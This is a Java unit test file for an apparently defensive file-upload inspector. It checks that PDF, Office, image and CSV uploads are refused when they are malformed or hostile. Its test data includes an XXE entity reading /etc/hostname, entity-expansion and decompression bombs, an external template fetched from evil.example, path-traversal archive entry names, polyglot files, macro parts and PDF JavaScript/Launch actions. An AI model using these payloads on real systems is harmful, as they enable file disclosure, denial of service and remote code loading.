package greenbridge.file;

import static org.assertj.core.api.Assertions.assertThat;

import greenbridge.Asvs;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class InspectionTest {
    private final Inspection inspection = new Inspection();

    @TempDir
    Path folder;

    @Test
    void whatIsWhatItSaysPasses() throws IOException {
        assertThat(look("a.pdf", Papers.pdf(3))).isEqualTo(new Finding.Sound(Kind.PDF, 3));
        assertThat(look("A.DOCX", Papers.zip(Papers.word()))).isEqualTo(new Finding.Sound(Kind.DOCX, null));
        assertThat(look("a.png", Papers.picture("png", 20, 10))).isEqualTo(new Finding.Sound(Kind.PNG, null));
        assertThat(look("a.jpeg", Papers.picture("jpg", 20, 10))).isEqualTo(new Finding.Sound(Kind.JPEG, null));
        assertThat(look("a.webp", Papers.webp())).isEqualTo(new Finding.Sound(Kind.WEBP, null));
        assertThat(look("a.csv", Papers.text("名称,数量\n锅炉,2\n"))).isEqualTo(new Finding.Sound(Kind.CSV, null));
        assertThat(look("a.csv", "名称,数量\r\n锅炉,2".getBytes(Charset.forName("GBK"))))
                .isEqualTo(new Finding.Sound(Kind.CSV, null));
        var ofd = Map.of("OFD.xml", Papers.text("<OFD/>"), "Doc_0/Pages/Page_0/Content.xml", Papers.text("<Page/>"));
        assertThat(look("a.ofd", Papers.zip(ofd))).isEqualTo(new Finding.Sound(Kind.OFD, 1));
    }

    @Test
    @Asvs("5.2.2")
    void endingAndContentAgree() throws IOException {
        byte[] png = Papers.picture("png", 20, 10);
        assertRefused(Fault.DISAGREES, "a.pdf", png);
        assertRefused(Fault.DISAGREES, "a.png", Papers.pdf(1));
        assertRefused(Fault.DISAGREES, "a.jpg", png);
        assertRefused(Fault.DISAGREES, "a.xlsx", Papers.zip(Papers.word()));
        assertRefused(Fault.DISAGREES, "a.docx", Papers.zip(Map.of("readme.xml", Papers.text("<x/>"))));
        assertRefused(Fault.DISAGREES, "a.txt", png);
        assertRefused(Fault.DISAGREES, "a.txt", Papers.text("<html><script>alert(1)</script>"));
        assertRefused(Fault.DISAGREES, "a.csv", new byte[] {'a', 0, 'b'});
        for (String name : new String[] {"a.exe", "a", "a.pdf.exe", "a.svg", "a.html", "a.docm", "a.zip"}) {
            assertRefused(Fault.KIND, name, Papers.pdf(1));
        }
        assertThat(inspection.look(file(Papers.pdf(1)), "a.pdf", new Slot("seal", 1000, EnumSet.of(Kind.PNG), 1)))
                .isEqualTo(new Finding.Unsound(Fault.KIND));
    }

    @Test
    @Asvs("5.2.2")
    void aFileIsOneThingOnly() throws IOException {
        byte[] zip = Papers.zip(Papers.word());
        assertRefused(Fault.DISAGREES, "a.pdf", Papers.joined(Papers.pdf(1), zip));
        assertRefused(Fault.DISAGREES, "a.png", Papers.joined(Papers.picture("png", 9, 9), zip));
        assertRefused(Fault.DISAGREES, "a.jpg", Papers.joined(Papers.picture("jpg", 9, 9), zip));
        assertRefused(Fault.DISAGREES, "a.docx", Papers.joined(zip, Papers.text("more")));
        assertRefused(Fault.DISAGREES, "a.docx", Papers.joined(Papers.pdf(1), zip));
        assertRefused(Fault.BROKEN, "a.png", Papers.joined(Papers.picture("png", 9, 9), Papers.text("more")));
        assertRefused(Fault.BROKEN, "a.jpg", Papers.joined(Papers.picture("jpg", 9, 9), Papers.text("more")));
        assertRefused(Fault.BROKEN, "a.pdf", Papers.joined(Papers.pdf(1), Papers.text("more")));
    }

    @Test
    @Asvs("5.2.3")
    void nothingUnpacksWithoutEnd() throws IOException {
        assertThat(Papers.bomb()).hasSizeLessThan(100_000);
        assertRefused(Fault.BOMB, "a.docx", Papers.bomb());
        var many = new LinkedHashMap<>(Papers.word());
        for (int i = 0; i < 3000; i++) {
            many.put("word/p" + i + ".xml", Papers.text("<x/>"));
        }
        assertRefused(Fault.BOMB, "a.docx", Papers.zip(many));
        assertRefused(Fault.NESTED, "a.docx", Papers.word("word/x.bin", Papers.zip(Papers.word())));
        assertRefused(Fault.BOMB, "a.pdf", packed(Papers.pdf(1), 60, ""));
        assertRefused(Fault.BOMB, "a.pdf", packed(Papers.pdf(1), 1, "/FlateDecode"));
        assertRefused(Fault.PIXELS, "a.png", Papers.wide());
    }

    @Test
    @Asvs("1.5.1")
    void noPartReachesOutside() throws IOException {
        String entity = "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><d>&x;</d>";
        assertRefused(Fault.OUTSIDE, "a.docx", Papers.word(Papers.WORD, Papers.text(entity)));
        var sheet = new LinkedHashMap<String, byte[]>();
        sheet.put(Papers.TYPES, Papers.text("<Types/>"));
        sheet.put("xl/workbook.xml", Papers.text("<workbook/>"));
        assertThat(look("a.xlsx", Papers.zip(sheet))).isEqualTo(new Finding.Sound(Kind.XLSX, null));
        sheet.put("xl/sharedStrings.xml", Papers.text(entity));
        assertRefused(Fault.OUTSIDE, "a.xlsx", Papers.zip(sheet));
        String laughs = "<!DOCTYPE d [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><d>&b;</d>";
        assertRefused(Fault.OUTSIDE, "a.docx", Papers.word("word/styles.xml", Papers.text(laughs)));
        byte[] wide = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + entity).getBytes(StandardCharsets.UTF_16);
        assertRefused(Fault.OUTSIDE, "a.docx", Papers.word("word/wide.xml", wide));
        String template =
                "<Relationships><Relationship Type=\"x/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
                        + " TargetMode=\"External\"/></Relationships>";
        assertRefused(Fault.OUTSIDE, "a.docx", Papers.word("word/_rels/settings.xml.rels", Papers.text(template)));
        String link = template.replace("attachedTemplate", "hyperlink").replace("t.dotm", "");
        assertThat(look("a.docx", Papers.word("word/_rels/document.xml.rels", Papers.text(link))))
                .isEqualTo(new Finding.Sound(Kind.DOCX, null));
    }

    @Test
    void noPartHasANameThatLeadsElsewhere() throws IOException {
        for (String name :
                new String[] {"../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "c:\\evil.xml", "a\\b.xml"}) {
            assertRefused(Fault.OUTSIDE, "a.docx", Papers.word(name, Papers.text("<x/>")));
        }
    }

    @Test
    void nothingRuns() throws IOException {
        assertRefused(Fault.ACTIVE, "a.docx", Papers.word("word/vbaProject.bin", new byte[100]));
        assertRefused(Fault.ACTIVE, "a.docx", Papers.word("word/activeX/activeX1.xml", Papers.text("<x/>")));
        String macros =
                "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>";
        assertRefused(Fault.ACTIVE, "a.docx", Papers.word(Papers.TYPES, Papers.text(macros)));
        for (String action : new String[] {"JavaScript", "Launch", "SubmitForm"}) {
            assertRefused(Fault.ACTIVE, "a.pdf", Papers.pdf(1, document -> Papers.action(document, action)));
        }
        assertRefused(Fault.NESTED, "a.pdf", Papers.pdf(1, Papers::holding));
        assertRefused(Fault.NESTED, "a.docx", Papers.word("word/embeddings/oleObject1.bin", new byte[10]));
        assertRefused(Fault.NESTED, "a.docx", Papers.word("word/media/image.png", Papers.text("MZ a program")));
    }

    @Test
    void whatIsBrokenOrTooLongIsRefused() throws IOException {
        assertRefused(Fault.BROKEN, "a.pdf", Papers.text("%PDF-1.7\nnothing\n%%EOF\n"));
        assertRefused(Fault.BROKEN, "a.docx", Papers.word(Papers.WORD, Papers.text("<a><b></a>")));
        assertThat(inspection.look(file(Papers.pdf(3)), "a.pdf", new Slot("one", 100_000, EnumSet.of(Kind.PDF), 2)))
                .isEqualTo(new Finding.Unsound(Fault.PAGES));
    }

    /** With a stream that nothing refers to in front of the end. */
    private static byte[] packed(byte[] pdf, int megabytes, String again) throws IOException {
        var bytes = new ByteArrayOutputStream();
        bytes.write(("%PDF-1.7\n9 0 obj\n<< /Filter [/FlateDecode" + again + "] >>\nstream\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        try (var out = new DeflaterOutputStream(bytes, new Deflater(9))) {
            for (int i = 0; i < megabytes; i++) {
                out.write(new byte[1 << 20]);
            }
        }
        bytes.write("\nendstream\nendobj\n".getBytes(StandardCharsets.ISO_8859_1));
        bytes.write(pdf, 9, pdf.length - 9);
        return bytes.toByteArray();
    }

    private void assertRefused(Fault fault, String name, byte[] content) throws IOException {
        assertThat(look(name, content)).as(name).isEqualTo(new Finding.Unsound(fault));
    }

    private Finding look(String name, byte[] content) throws IOException {
        return inspection.look(file(content), name, Slot.DOCUMENT);
    }

    private Path file(byte[] content) throws IOException {
        return Files.write(Files.createTempFile(folder, "", ""), content);
    }
}
